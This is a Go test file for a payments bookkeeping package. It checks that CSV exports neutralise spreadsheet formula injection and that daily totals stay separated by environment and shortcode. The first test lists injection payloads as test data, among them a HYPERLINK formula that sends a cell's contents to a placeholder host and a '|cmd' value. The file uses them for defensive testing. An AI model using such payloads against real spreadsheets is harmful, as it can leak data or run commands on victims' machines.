package books_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math"
	"strings"
	"testing"
	"time"

	"github.com/hodihq/hodi/sync/books"
	"github.com/hodihq/hodi/sync/push"
)

func line(at, receipt string, amount push.Money, change ...func(*books.Line)) books.Line {
	l := books.Line{Time: push.Time{Time: nairobi(at)}, Began: push.Time{Time: nairobi(at).Add(-15 * time.Second)}, Receipt: receipt, Amount: amount, Status: "SUCCESS",
		Number: "4125223", Environment: "production", PaymentID: "id-" + receipt, Reference: "INV-7"}
	for _, c := range change {
		c(&l)
	}
	return l
}

func byNotice(l *books.Line) { l.PaymentID, l.Phone = "", "" }

func TestASheetIsCSVThatNoSpreadsheetRuns(t *testing.T) {
	var b bytes.Buffer
	sheet, err := books.NewSheet(&b)
	if err != nil {
		t.Fatal(err)
	}
	nasty := []string{`=HYPERLINK("http://example.test?"&A1,"x")`, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r\n=1", " =1", "＝1", "|cmd", "'=1", "\u200b=1", "\ufeff=1", "\u00a0=1", "a\x00=b", "bad \xff"}
	for _, reference := range nasty {
		if err := sheet.Add(line("2026-11-22 23:30:00", "UKM2AB2CD3", 1234_50, func(l *books.Line) { l.Reference = reference })); err != nil {
			t.Fatal(err)
		}
	}
	if err := sheet.Add(line("2026-11-22 23:30:00", "", 5, byNotice, func(l *books.Line) { l.Reference = "say \"hi\",\nthen go" })); err != nil {
		t.Fatal(err)
	}
	if err := sheet.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != len(nasty)+2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows[1 : len(rows)-1] {
		got := row[4]
		if start := strings.TrimLeft(got, " \u00a0\t\r\n"); strings.ContainsAny(start[:1], "=+-@|%") || strings.HasPrefix(start, "＝") || strings.ContainsAny(got, "\x00\t\r\n") {
			t.Errorf("%q is written as %q, which a spreadsheet may run", nasty[i], got)
		}
		if row[3] != "1234.50" || row[0] != "2026-11-22" || row[1] != "23:30:00" || row[9] != "request" {
			t.Errorf("a row is %q", row)
		}
	}
	if last := rows[len(rows)-1]; last[4] != `say "hi", then go` || last[3] != "0.05" || last[9] != "C2B" {
		t.Errorf("the last row is %q", last)
	}
}

func TestSumsNeverMix(t *testing.T) {
	var s books.Sums
	sandbox := func(l *books.Line) { l.Environment = "sandbox" }
	other := func(l *books.Line) { l.Number = "600000" }
	for _, l := range []books.Line{
		line("2026-11-22 23:59:59", "A1", 100_00), line("2026-11-22 00:00:00", "A2", 10, byNotice), line("2026-11-23 00:00:00", "A3", 1_00),
		line("2026-11-22 12:00:00", "A4", 7_00, sandbox), line("2026-11-22 12:00:00", "A5", 8_00, other), line("2026-11-22 12:00:00", "", 9_00, other),
		line("2026-11-22 12:00:00", "A6", 5_00, func(l *books.Line) { l.Status = "FAILED" }),
	} {
		if err := s.Add(l); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if err := books.WriteDays(&b, s.Days()); err != nil {
		t.Fatal(err)
	}
	want := "date,environment,shortcode,payments,amount,of these by C2B,amount by C2B,without a receipt yet\r\n" +
		"2026-11-22,production,4125223,2,100.10,1,0.10,0\r\n2026-11-22,production,600000,2,17.00,0,0.00,1\r\n2026-11-22,sandbox,4125223,1,7.00,0,0.00,0\r\n2026-11-23,production,4125223,1,1.00,0,0.00,0\r\n"
	if b.String() != want {
		t.Errorf("%s\nwant\n%s", &b, want)
	}
	totals, err := s.Totals()
	if got := fmt.Sprint(totals, err); got != "[{ production 4125223 3 101.1 1 0.1 0} { production 600000 2 17 0 0 1} { sandbox 4125223 1 7 0 0 0}] <nil>" {
		t.Errorf("totals: %s", got)
	}
	if err := s.Add(line("2026-11-22 12:00:00", "A7", math.MaxInt64-50)); err == nil {
		t.Error("a sum that does not fit is taken")
	}
}
